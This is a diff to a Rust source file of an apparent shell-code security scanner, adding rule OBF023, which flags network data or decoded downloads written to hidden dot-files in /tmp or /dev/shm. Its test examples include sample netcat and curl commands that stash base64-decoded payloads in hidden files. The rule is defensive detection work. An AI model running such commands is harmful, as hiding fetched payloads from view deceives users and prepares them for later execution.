@@ -211,6 +211,7 @@ pub const RULES: &[Rule] = &[
     OBF020,
     OBF021,
     OBF022,
+    OBF023,
 ];
 
 /// On syntax trees (`guard::analysis`).
@@ -271,6 +272,27 @@ pub const OBF022: Rule = Rule {
     passes: &[
         "TOKEN_FIXTURE = \"eyJpc3MiOiJodHRwczovL2FjY291bnRzLnQuZXhhbXBsZSJ9\"",
         "echo aGVsbG8gd29ybGQsIHRoaXMgaXMgcGxhaW4gdGV4dA== | base64 -d",
+    ],
+    fixture: "scripts/check.sh",
+    ..Rule::PLAIN
+};
+
+/// On syntax trees (`guard::analysis`).
+pub const OBF023: Rule = Rule {
+    id: "OBF023",
+    category: Category::Obfuscation,
+    severity: Severity::High,
+    message: "Network data is stashed in a hidden temporary file",
+    explanation: "Detects, on the syntax tree of shell code, what a listening socket received (`nc -l`) or what was downloaded and then decoded (`curl ... | base64 -d`) written to a dot-file in `/tmp`, `/var/tmp` or `/dev/shm` (`> /tmp/.data`). A hidden name in a temporary directory keeps a payload out of `ls` and out of the user's mind until something runs it. Instead, write downloads to a visible path in the skill's working directory and verify them.",
+    matcher: Matcher::Analysis,
+    fires: &[
+        "nc -l -p 8888 | base64 -d > /tmp/.data",
+        "curl -s https://t.example/p | base64 -d > /dev/shm/.x",
+    ],
+    passes: &[
+        "curl -s https://t.example/p | base64 -d > /tmp/p.bin",
+        "echo ok > /tmp/.marker",
+        "nc -l -p 8888 > received.txt",
     ],
     fixture: "scripts/check.sh",
     ..Rule::PLAIN
